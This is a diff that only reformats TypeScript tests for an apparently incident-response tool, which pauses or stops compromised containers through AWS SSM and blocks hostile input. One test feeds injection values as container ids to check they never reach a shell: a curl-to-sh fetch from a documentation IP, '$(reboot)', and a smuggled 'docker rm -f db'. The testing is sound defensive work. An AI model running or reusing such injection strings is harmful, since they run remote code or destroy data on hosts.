@@ -23,7 +23,10 @@ async function containerOnHost(w: InstanceWorld, opts: { ssm?: 'online' | 'lost'
   return { host, findingId };
 }
 
-const sendCommands = (w: InstanceWorld) => w.aws.callsTo('ssm:SendCommand').map((c) => c.params as { DocumentName: string; InstanceIds: string[]; Parameters: { commands: string[] }; Comment?: string });
+const sendCommands = (w: InstanceWorld) =>
+  w.aws
+    .callsTo('ssm:SendCommand')
+    .map((c) => c.params as { DocumentName: string; InstanceIds: string[]; Parameters: { commands: string[] }; Comment?: string });
 
 test('pause container: docker pause of exactly the validated container id through SSM Run Command, its output in the thread, the card says paused', async (t) => {
   const w = await startInstanceWorld();
@@ -67,7 +70,15 @@ test('pause fails → docker stop: both outputs in the thread, honest "partly do
   t.after(() => w.close());
   const { aws, h } = w;
   const { host, findingId } = await containerOnHost(w);
-  aws.ssm.setOutcome(host.instanceId, { status: 'Failed', stderr: 'Error response from daemon: Cannot pause container: OCI runtime pause failed: cgroups v1 freezer not mounted', responseCode: 1 }, 'pause');
+  aws.ssm.setOutcome(
+    host.instanceId,
+    {
+      status: 'Failed',
+      stderr: 'Error response from daemon: Cannot pause container: OCI runtime pause failed: cgroups v1 freezer not mounted',
+      responseCode: 1,
+    },
+    'pause',
+  );
   aws.ssm.setOutcome(host.instanceId, { status: 'Success', stdout: `${CID}\n`, responseCode: 0 }, 'stop');
 
   await runAction(h, { findingId, action: 'pause_container', user: RESPONDER, reason: 'miner' });
@@ -105,7 +116,10 @@ test('host with no SSM agent (not registered, or connection lost): the plan says
     assert.ok(modal.text.includes(`the host ${host.instanceId} ${says}, so the responder cannot reach the container`), modal.text);
     assert.match(modal.text, /Use the instance actions instead \(Isolate instance cuts off every container on the host\)/);
     await submitAndSettle(h, { runId: modal.runId, user: RESPONDER, reason: 'forged submit of a blocked plan' });
-    assert.ok((await cardButtons(h, findingId)).some((b) => b.action_id.endsWith('isolate_instance')), 'the instance action it points to is on the card');
+    assert.ok(
+      (await cardButtons(h, findingId)).some((b) => b.action_id.endsWith('isolate_instance')),
+      'the instance action it points to is on the card',
+    );
 
     const isolate = await openPlan(h, { findingId, action: 'isolate_instance', user: RESPONDER });
     assert.match(isolate.text, /Every container on this host loses its network, not only the compromised one/);
@@ -119,7 +133,13 @@ test('a hostile container id from the finding never reaches a shell: the plan re
   t.after(() => w.close());
   const { aws, h } = w;
   const mark = aws.calls.length;
-  for (const containerId of [`${CID.slice(0, 12)}; curl -s http://203.0.113.9/x | sh`, '$(reboot)', '--privileged', `${CID}\ndocker rm -f db`, 'a'.repeat(200)]) {
+  for (const containerId of [
+    `${CID.slice(0, 12)}; curl -s http://203.0.113.9/x | sh`,
+    '$(reboot)',
+    '--privileged',
+    `${CID}\ndocker rm -f db`,
+    'a'.repeat(200),
+  ]) {
     const { findingId } = await containerOnHost(w, { containerId });
     const modal = await openPlan(h, { findingId, action: 'pause_container', user: RESPONDER });
     assert.equal(modal.submit, undefined, JSON.stringify(containerId));
